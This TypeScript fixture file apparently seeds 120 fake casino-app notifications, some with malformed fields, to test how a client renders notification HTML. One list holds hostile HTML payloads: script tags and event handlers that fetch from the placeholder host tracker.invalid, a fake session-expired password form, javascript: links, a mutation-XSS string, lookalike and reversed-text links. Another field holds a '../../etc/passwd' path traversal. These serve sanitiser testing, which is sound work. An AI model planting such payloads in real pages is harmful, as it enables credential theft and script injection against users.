import type { Notification, NotificationContent } from '../../shared/contract/notifications.ts'
import texts from '../texts/notifications.json' with { type: 'json' }
import { type Clock, timeA } from './clock.ts'
import { drifting, type WireObject, at, type Random, randomOf, uuidOf } from './seed.ts'

// Hebrew text runs from right to left.
const languages = ['en', 'de', 'pt', 'he'] as const
type Language = (typeof languages)[number]

const notificationCount = 120
const amounts = ['€10.00', '€25.00', '€148.20', '€1,204,551.00']
const games = ['Dragon Riches', 'Coral Treasure', 'Viking Legends', 'Lucky Sevens', 'Cosmic Spins']

// Leave text in double braces unchanged, because it stands for a placeholder that the sender forgot to fill in.
const filled = (html: string, index: number, origin: string) =>
  html
    .replaceAll(/(?<!\{)\{amount\}/g, at(amounts, index))
    .replaceAll('{game}', at(games, index))
    .replaceAll('{picture}', `${origin}/storage/notifications/2026/inline-${index % 5}.webp`)

const contentsOf = (
  message: Readonly<Record<Language, string>>,
  index: number,
  origin: string,
  spoken: readonly Language[] = languages
) =>
  spoken.map((language): NotificationContent => ({
    language,
    content: filled(message[language], index, origin),
    is_default: language === spoken[0]
  }))

// Addresses end in .invalid, which never resolves (RFC 6761): even a successful attack reaches no host.
const tracker = 'https://tracker.invalid'

/** Notification HTML that tries to run scripts, load files or follow links. Each entry also contains readable text. */
const hostileHtml: readonly string[] = [
  `<p>Your prize is ready.</p><script>parent.document.title = 'owned'; fetch('${tracker}/script')</script>`,
  `<p>Look at this picture.</p><img src="${tracker}/open.gif?player=1" width="1" height="1" onerror="fetch('${tracker}/onerror')">`,
  `<style>@import url('${tracker}/import.css'); body { background: url('${tracker}/background.png') } p::after { content: url('${tracker}/after.png') }</style><p>A styled message.</p>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><form action="${tracker}/login" method="post"><input name="password" type="password" autofocus onfocus="this.form.submit()"><button>Sign in</button></form></div>`,
  `<p>Claim it <a href="javascript:alert(document.domain)">here</a>, <a href="data:text/html,<script>alert(1)</script>">here</a> or <a href="https://casino.example@tracker.invalid/login">here</a>.</p>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="fetch('${tracker}/svg')"><image href="${tracker}/svg-image.png"/><a href="javascript:alert(1)"><text y="40">Win</text></a></svg><p>An animated gift.</p>`,
  `<meta http-equiv="refresh" content="0;url=${tracker}/refresh"><base href="${tracker}/"><link rel="stylesheet" href="${tracker}/link.css"><p>Please wait…</p>`,
  `<iframe src="${tracker}/frame" srcdoc="<script>top.location='${tracker}/top'</script>"></iframe><object data="${tracker}/object"></object><embed src="${tracker}/embed"><p>Play the trailer.</p>`,
  `<video autoplay poster="${tracker}/poster.jpg" src="${tracker}/video.mp4"></video><audio src="${tracker}/audio.mp3" autoplay></audio><p>Listen to this.</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mutated markup.</p>`,
  `<p>Pay to \u202Elagel.oniscac\u202C today.</p><a href="https://xn--csino-3ve.example/">https://casino.example/</a><a href="smb://tracker.invalid/share">share</a>`,
  `<details open ontoggle="fetch('${tracker}/toggle')"><summary>More</summary>${'<b>'.repeat(400)}deep${'</b>'.repeat(400)}</details>`
]

const hostileContents = (index: number): NotificationContent[] => [
  { language: 'en', content: at(hostileHtml, Math.floor(index / 10)), is_default: true },
  { language: 'de', content: '<p>Diese Fassung ist harmlos.</p>', is_default: false }
]

const spokenBy = (random: Random): readonly Language[] => {
  if (random.happens(0.7)) return languages
  return random.pick([['en'], ['en', 'de'], ['de', 'en', 'pt'], ['he', 'en'], ['pt']] as const)
}

const defaults = (contents: NotificationContent[], marked: (index: number) => boolean) =>
  contents.map((content, index) => ({ ...content, is_default: marked(index) }))

const contents = (index: number, random: Random, origin: string): NotificationContent[] => {
  if (index % 10 === 4) return hostileContents(index)
  if (index % 10 === 7) {
    const careless = contentsOf(at(texts.careless, Math.floor(index / 10)), index, origin)
    if (index % 30 === 17) return defaults(careless, () => false)
    return index % 30 === 27 ? defaults(careless, (at) => at < 2) : careless
  }
  return contentsOf(random.pick(texts.messages), index, origin, spokenBy(random))
}

const drifts: Readonly<Record<number, WireObject>> = {
  33: { contents: [] },
  39: { image: null },
  52: { image: '../../etc/passwd' },
  58: { is_read: 1, read_at: '2026-01-05 08:30:00' },
  71: { channel: 'email', image: undefined },
  86: { contents: null, id: 'not-a-uuid' }
}

const makeNotification = (index: number, created: Date, origin: string): Notification => {
  const random = randomOf(`notification ${index}`)
  return {
    id: uuidOf(`notification ${index}`),
    contents: contents(index, random, origin),
    image: `notifications/2026/${index === 12 ? 'missing' : `card-${index % 12}`}.webp`,
    is_read: true,
    read_at: timeA(new Date(created.getTime() + random.whole(40, 10 * 3600) * 1000), random.whole(0, 999)),
    created_at: timeA(created, random.whole(0, 999))
  }
}

/** One player's notifications, newest first. An unread notification has a null `read_at`, as in Laravel. */
export const makeNotifications = (clock: Clock, origin: string): readonly WireObject[] => {
  const random = randomOf('notification times')
  let daysAgo = 0.04
  return Array.from({ length: notificationCount }, (_, index) => {
    daysAgo += 0.15 + random.share() * 2.2
    const isUnread = index < 3 || (index < 60 && index % 3 === 0 && index !== 33 && index !== 39)
    const notification = makeNotification(index, clock.day(-daysAgo), origin)
    return drifting(notification, { ...(isUnread && { is_read: false, read_at: null }), ...drifts[index] })
  })
}
